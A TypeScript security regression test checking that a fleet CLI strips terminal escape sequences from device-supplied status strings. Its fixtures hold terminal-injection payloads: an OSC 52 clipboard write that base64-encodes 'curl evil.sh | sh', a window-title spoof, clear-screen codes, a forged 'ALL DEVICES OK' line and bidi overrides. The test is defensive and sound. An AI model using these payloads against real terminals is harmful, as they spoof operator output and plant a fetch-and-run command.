/**
 * Hole 6 of issue 14: terminal injection. A device's `reason` and `message`
 * carrying OSC 52 (clipboard write), OSC 0 (window title), clear-screen and a
 * forged "ALL DEVICES OK" line reached the operator's terminal through
 * `fleet watch` (TTY and plain) and `fleet devices`, and raw C1 controls
 * reached log lines and `--on-event` environments. Every string from the
 * network now goes through one sanitiser (util/text.ts) before a terminal,
 * a log line or an event command sees it.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { promises as fs } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { startBroker, type RunningBroker } from '../../nodes/broker-node.ts';
import { FLEET_BIN } from '../../platform/child-process.ts';
import { FleetView, followFleet } from '../../operator/fleet-view.ts';
import { TerminalWatch } from '../../operator/render-terminal.ts';
import { encodeStatus, type DeviceStatus } from '../../protocol/status.ts';
import { Topics } from '../../protocol/topics.ts';
import { MqttTransport } from '../../transport/mqtt.ts';
import { runEventCommand } from '../../util/event-command.ts';
import { createLogger, silentLogger } from '../../util/log.ts';
import { stripControls } from '../../util/text.ts';
import { tempDir } from '../support/harness.ts';
import { until } from '../support/wait.ts';
import { statusFixture } from '../support/status.ts';

const topics = new Topics();
const OSC52 = '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07';
const OSC0 = '\x1b]0;root@prod\x1b\\';
const CLEAR = '\x1b[2J\x1b[H';
const FORGED = `${CLEAR}ALL DEVICES OK\r\n\x1bc\x9b2J\x9d0;title\x9c\x7f\u202eevil`;
const REASON = `health-failed${OSC52}${OSC0}`;
const MESSAGE = `${FORGED}\nfake log line`;

/** Controls nobody but our own renderer may write: any ESC, BEL, C1, DEL, bidi overrides; line breaks checked separately. */
const HOSTILE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

const status = (device: string): DeviceStatus => statusFixture({ device, group: 'line-1', state: 'rejected', target: 'b'.repeat(64), seq: 3, reason: REASON, message: MESSAGE, agent: `fleet/0.1.0${OSC0}` });

let broker: RunningBroker | undefined;
let dir: string | undefined;
const children: ChildProcess[] = [];
const transports: MqttTransport[] = [];
afterEach(async () => {
  for (const c of children.splice(0)) if (c.exitCode === null && c.signalCode === null) process.kill(c.pid!, 'SIGKILL');
  for (const t of transports.splice(0)) await t.close();
  await broker?.close();
  if (dir) await fs.rm(dir, { recursive: true, force: true });
  broker = dir = undefined;
});

async function brokerWithHostileStatus(): Promise<RunningBroker> {
  dir = await tempDir('sec-term');
  broker = await startBroker({ port: 0, dataDir: path.join(dir, 'broker'), persistence: 'memory', log: silentLogger, updateServer: false });
  const t = await MqttTransport.connect({ url: broker.url, clientId: 'fleet-device-evil' }, 10_000);
  transports.push(t);
  await t.publish(topics.status('evil'), encodeStatus(status('evil')), { qos: 1, retain: true });
  await t.publish(topics.presence('evil'), new TextEncoder().encode('online'), { qos: 1, retain: true });
  return broker;
}

/** Runs `fleet ARGS`; resolves its stdout once `done(stdout)` holds (then stops it by PID) or it exits. */
function runFleet(args: string[], done: (out: string) => boolean = () => false, timeoutMs = 30_000): Promise<{ out: string; code: number | null }> {
  const child = spawn(process.execPath, [FLEET_BIN, ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
  children.push(child);
  let out = '';
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`fleet ${args[0]} timed out; stdout so far: ${JSON.stringify(out)}`)), timeoutMs);
    child.stdout!.on('data', (d: Buffer) => {
      out += d.toString('utf8');
      if (done(out)) process.kill(child.pid!, 'SIGTERM');
    });
    child.on('close', (code) => {
      clearTimeout(timer);
      resolve({ out, code });
    });
  });
}

describe('the sanitiser', () => {
  it('strips escape sequences whole, C0, DEL, C1, bidi overrides; turns line breaks into spaces; keeps text', () => {
    expect(stripControls(REASON)).toBe('health-failed');
    expect(stripControls(`a${CLEAR}b`)).toBe('ab');
    expect(stripControls('line\nnext\r\tend')).toBe('line next  end');
    expect(stripControls('x\x9b2Jy\x9d0;t\x9cz\x7f\u202e!')).toBe('xyz!');
    expect(stripControls('Größe 3 µm — ok ✓ 設備')).toBe('Größe 3 µm — ok ✓ 設備');
    expect(stripControls(MESSAGE)).not.toMatch(HOSTILE);
  });
});

describe('a hostile status on a real broker', () => {
  it('fleet devices (table and --json) prints it without a control character', async () => {
    const b = await brokerWithHostileStatus();
    const table = await runFleet(['devices', '--broker', b.url, '--wait', '800']);
    expect(table.code).toBe(0);
    expect(table.out).toContain('evil');
    expect(table.out).toContain('health-failed');
    expect(table.out).not.toMatch(HOSTILE);
    const json = await runFleet(['devices', '--broker', b.url, '--wait', '800', '--json']);
    expect(json.code).toBe(0);
    expect(json.out).not.toMatch(HOSTILE);
    expect(json.out).not.toMatch(/\\u00(1b|07|9b|9d)/i);
    expect(JSON.parse(json.out)[0]).toMatchObject({ device: 'evil', reason: 'health-failed' });
  });

  it('fleet watch, plain and --json, prints it without a control character and on one line', async () => {
    const b = await brokerWithHostileStatus();
    const plain = await runFleet(['watch', '--broker', b.url], (o) => o.includes('health-failed'));
    const line = plain.out.split('\n').find((l) => l.includes('device evil'))!;
    expect(line).toContain('ALL DEVICES OK  evil fake log line');
    expect(plain.out).not.toMatch(HOSTILE);
    expect(plain.out.split('\n').filter((l) => l.includes('ALL DEVICES OK'))).toEqual([line]);
    const json = await runFleet(['watch', '--broker', b.url, '--json'], (o) => o.includes('health-failed'));
    expect(json.out).not.toMatch(HOSTILE);
    expect(json.out).not.toMatch(/\\u00(1b|07|9b|9d)/i);
  });

  it('fleet watch on a terminal draws only its own escape sequences', async () => {
    const b = await brokerWithHostileStatus();
    const t = await MqttTransport.connect({ url: b.url, clientId: 'operator-watch' }, 10_000);
    transports.push(t);
    const view = new FleetView(topics);
    const stop = await followFleet(view, t);
    let written = '';
    const out = Object.assign(
      new (await import('node:stream')).Writable({
        write(c, _e, cb) {
          written += String(c);
          cb();
        },
      }),
      { isTTY: true, columns: 400, rows: 50 },
    );
    const w = new TerminalWatch(view, out, { tty: true, intervalMs: 10 });
    w.start();
    await until(() => written.includes('health-failed'), { what: "fleet watch drawing evil's health-failed status", timeoutMs: 10_000 });
    w.stop();
    await stop();
    expect(written).toContain('health-failed');
    // Ours: SGR colours, cursor home, erase line/below, alternate screen and cursor visibility. Nothing else.
    const ours = written.replace(/\x1b\[(?:[0-9;]*[mHKJ]|\?(?:1049|25)[hl])/g, '');
    expect(ours).not.toMatch(HOSTILE);
    expect(written).not.toContain('\x1b]');
    expect(written).not.toContain('\x1b[2J');
  });

  it('log lines and --on-event environments get it stripped', async () => {
    const lines: string[] = [];
    createLogger('t', 'info', (l) => lines.push(l)).warn(`refused ${REASON}`, { reason: REASON, message: MESSAGE, nested: { list: [OSC52] } });
    expect(lines).toHaveLength(1);
    expect(lines[0]).not.toMatch(HOSTILE);
    expect(lines[0]).not.toMatch(/\\u00(1b|07)/i);
    expect(JSON.parse(lines[0])).toMatchObject({ msg: 'refused health-failed', reason: 'health-failed' });

    dir = await tempDir('sec-term-event');
    const file = path.join(dir, 'event');
    const code = await runEventCommand(
      `printf '%s|%s|%s' "$FLEET_EVENT" "$FLEET_EVENT_TYPE" "$EXTRA" > '${file}'; cat > '${file}.stdin'`,
      { type: `device-rejected${OSC0}`, device: 'evil', reason: REASON, message: MESSAGE } as { type: string },
      silentLogger,
      { EXTRA: MESSAGE },
    );
    expect(code).toBe(0);
    const env = await fs.readFile(file, 'utf8');
    const stdin = await fs.readFile(`${file}.stdin`, 'utf8');
    expect(env).toContain('health-failed');
    expect(env).not.toMatch(HOSTILE);
    expect(env).not.toMatch(/\\u00(1b|07|9b|9d)/i);
    expect(stdin.trimEnd()).not.toMatch(HOSTILE);
    expect(stdin).not.toMatch(/\\u00(1b|07|9b|9d)/i);
  });
});
